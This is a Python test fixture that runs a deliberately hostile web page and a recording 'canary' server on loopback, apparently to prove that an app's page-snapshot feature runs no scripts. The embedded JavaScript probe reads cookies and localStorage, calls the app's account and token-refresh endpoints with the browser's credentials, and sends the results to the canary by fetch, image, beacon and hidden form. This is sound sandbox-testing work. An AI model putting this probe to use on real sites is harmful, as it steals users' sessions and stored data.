"""A hostile website and the canary it reports to, both on loopback.

The page's scripts (one inline, one external) try every way a snapshot could reach the app:
its cookies and storage, its API with the browser's credentials, the embedding page; then they
send whatever they found to the canary by fetch, image, beacon and form. The canary answers
everything and records each request, so a page that runs at all shows up there.
"""

from __future__ import annotations

import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from urllib.parse import unquote_plus

MARKER = "hostile-snapshot-marker"

# Runs twice: inline, then from the external file. Everything is caught and reported.
_PROBE = """
(async (where) => {
  const got = {where};
  const attempt = async (name, fn) => {
    try { got[name] = await fn(); } catch (e) { got[name] = 'threw ' + e; }
  };
  await attempt('cookie', () => document.cookie);
  await attempt('storage', () => JSON.stringify(Object.entries(localStorage)));
  await attempt('me', async () => {
    const r = await fetch('/api/v1/me', {credentials: 'include'});
    return r.status + ' ' + (await r.text());
  });
  await attempt('refresh', async () => {
    const r = await fetch(APP + '/api/v1/auth/refresh', {method: 'POST', credentials: 'include',
      headers: {'content-type': 'application/json'}, body: '{}'});
    return r.status + ' ' + (await r.text());
  });
  await attempt('top', () => top.location.href);
  await attempt('parent', () => parent.document.cookie);
  const data = encodeURIComponent(JSON.stringify(got));
  fetch(CANARY + '/fetch?d=' + data, {mode: 'no-cors'}).catch(() => {});
  new Image().src = CANARY + '/img?d=' + data;
  try { navigator.sendBeacon(CANARY + '/beacon', JSON.stringify(got)); } catch (e) {}
  const sink = document.createElement('iframe');
  sink.name = 'sink-' + where; sink.style.display = 'none'; document.body.appendChild(sink);
  const form = document.createElement('form');
  form.method = 'POST'; form.action = CANARY + '/form'; form.target = sink.name;
  const field = document.createElement('input');
  field.name = 'd'; field.value = JSON.stringify(got);
  form.appendChild(field); document.body.appendChild(form);
  try { form.submit(); } catch (e) {}
  document.title = 'ran';
})"""


def _page(app: str, canary: str, site: str) -> bytes:
    constants = f"const APP = {app!r}, CANARY = {canary!r};"
    return f"""<!doctype html><html lang="en"><head><meta charset="utf-8">
<title>Hostile page</title>
<meta http-equiv="refresh" content="1;url={canary}/meta-refresh">
<link rel="stylesheet" href="{canary}/css">
<script>{constants}</script>
<script src="{site}/evil.js"></script>
</head><body><h1>{MARKER}</h1>
<p>A page that wants your cookies. It is long enough to be kept as an article by an
extractor, with a second sentence that says nothing of interest at all.</p>
<img src="{canary}/static-img" alt="">
<script>{_PROBE}('inline');</script>
</body></html>""".encode()


def _script() -> bytes:
    return f"{_PROBE}('external');".encode()


@dataclass(frozen=True)
class Seen:
    """One request the canary got."""

    method: str
    path: str
    body: str

    def text(self) -> str:
        return unquote_plus(f"{self.path} {self.body}")


class _Handler(BaseHTTPRequestHandler):
    server: _Server

    def log_message(self, format: str, *args: Any) -> None:
        pass

    def do_GET(self) -> None:
        self._answer()

    def do_POST(self) -> None:
        self._answer()

    def do_OPTIONS(self) -> None:
        self._answer()

    def _answer(self) -> None:
        length = int(self.headers.get("content-length") or 0)
        body = self.rfile.read(length).decode(errors="replace") if length else ""
        self.server.seen.append(Seen(self.command, self.path, body))
        status, content, kind = self.server.respond(self.path.split("?")[0])
        try:
            self.send_response(status)
            self.send_header("Content-Type", kind)
            self.send_header("Content-Length", str(len(content)))
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()
            self.wfile.write(content)
        except ConnectionError:
            pass  # the page navigated away (the meta refresh) before the answer


class _Server(ThreadingHTTPServer):
    daemon_threads = True
    request_queue_size = 64  # a page opens a dozen connections at once; 5 would drop some

    def __init__(self, host: str = "127.0.0.1") -> None:
        super().__init__((host, 0), _Handler)
        self.host = host
        self.seen: list[Seen] = []

    @property
    def origin(self) -> str:
        return f"http://{self.host}:{self.port}"

    @property
    def port(self) -> int:
        return int(self.server_address[1])

    def respond(self, path: str) -> tuple[int, bytes, str]:
        return 200, b"heard", "text/plain"


class Canary(_Server):
    """Answers every request and records it; a proof that nothing ran must find it empty."""


class HostileSite(_Server):
    """Serves the hostile page at /hostile and its script at /evil.js.

    It lives on 127.0.0.2, another site than the app's 127.0.0.1: cookies ignore ports, so a
    page on 127.0.0.1 would share the app's cookie jar even unsandboxed.
    """

    def __init__(self, app: str, canary: str) -> None:
        super().__init__("127.0.0.2")
        self.app, self.canary = app, canary

    @property
    def page_url(self) -> str:
        return f"{self.origin}/hostile"

    def respond(self, path: str) -> tuple[int, bytes, str]:
        if path == "/hostile":
            return 200, _page(self.app, self.canary, self.origin), "text/html; charset=utf-8"
        if path == "/evil.js":
            return 200, _script(), "text/javascript"
        return 404, b"no", "text/plain"


@contextmanager
def running(server: _Server) -> Iterator[None]:
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield
    finally:
        server.shutdown()
        server.server_close()
